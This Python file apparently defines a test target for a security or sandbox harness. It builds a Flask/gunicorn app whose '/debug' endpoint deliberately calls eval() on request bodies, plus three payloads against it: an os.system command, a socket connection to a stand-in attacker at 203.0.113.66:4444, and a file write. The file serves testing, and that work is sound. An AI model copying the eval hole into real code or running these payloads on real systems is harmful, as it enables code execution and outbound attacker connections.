"""A Flask application under gunicorn, with SQLite, uploads, and an endpoint that evaluates what it is given."""

from demo.programs.life import Life
from demo.programs.program import Attack, File, Program
from demo.programs.visitor import Visitor

_APP = """
import os, sqlite3, subprocess, tempfile, uuid
from flask import Flask, request
app = Flask(__name__)

def database():
    connection = sqlite3.connect("/var/lib/app/notes.db", timeout=20)
    connection.execute("create table if not exists notes (text text)")
    return connection

@app.get("/")
def index():
    with database() as connection:
        return {"notes": connection.execute("select count(*) from notes").fetchone()[0]}

@app.post("/notes")
def add():
    with database() as connection:
        connection.execute("insert into notes values (?)", (request.get_data(as_text=True),))
    return {"added": True}

@app.post("/upload")
def upload():
    name = f"/var/lib/app/uploads/{uuid.uuid4()}.bin"
    with tempfile.NamedTemporaryFile() as temporary:
        temporary.write(request.get_data())
        temporary.flush()
        with open(name, "wb") as out:
            out.write(open(temporary.name, "rb").read())
    return {"digest": subprocess.run(["sha256sum", name], capture_output=True, text=True).stdout.split()[0]}

@app.post("/debug")
def debug():
    return repr(eval(request.get_data(as_text=True)))
"""


def _load(visitor: Visitor) -> None:
    for number in range(10):
        visitor.get("/", b"notes")
        visitor.post("/notes", f"note {number}".encode(), b"true")
        visitor.post("/upload", b"data" * 100, b"digest")
    visitor.run(
        "ab",
        "-q",
        "-n",
        "200",
        "-c",
        "8",
        "http://127.0.0.1:8000/",
        wanted="Complete requests:      200",
        times=200,
    )


def _rare(visitor: Visitor) -> None:
    visitor.life.signal("HUP")  # new workers take over from the old ones


def _evaluate(code: str) -> object:
    def act(life: Life) -> None:
        Visitor(life).fetch("/debug", body=code.encode())

    return act


PROGRAM = Program(
    name="flask",
    package="python3-flask",
    command=("gunicorn", "--bind", "127.0.0.1:8000", "--workers", "2", "--graceful-timeout", "5", "app:app"),
    environment={"PYTHONPATH": "/srv/app", "PYTHONDONTWRITEBYTECODE": "1"},
    user="www-data",
    port=8000,
    load=_load,
    rare=_rare,
    files=(File("/srv/app/app.py", _APP),),
    prepare=("mkdir -p /var/lib/app/uploads", "chown -R www-data: /var/lib/app"),
    victim="gunicorn",
    attacks=(
        Attack(
            "eval: os.system",
            _evaluate("os.system('id > /srv/shared/evaluated')"),
            lambda life: (life.root / "srv/shared/evaluated").exists(),
        ),
        Attack(
            "eval: socket",
            _evaluate("__import__('socket').create_connection(('203.0.113.66', 4444), 3)"),
            lambda life: life.peers.attacker.came > 0,
        ),
        Attack(
            "eval: write",
            _evaluate("open('/srv/shared/written', 'w')"),
            lambda life: (life.root / "srv/shared/written").exists(),
        ),
    ),
)
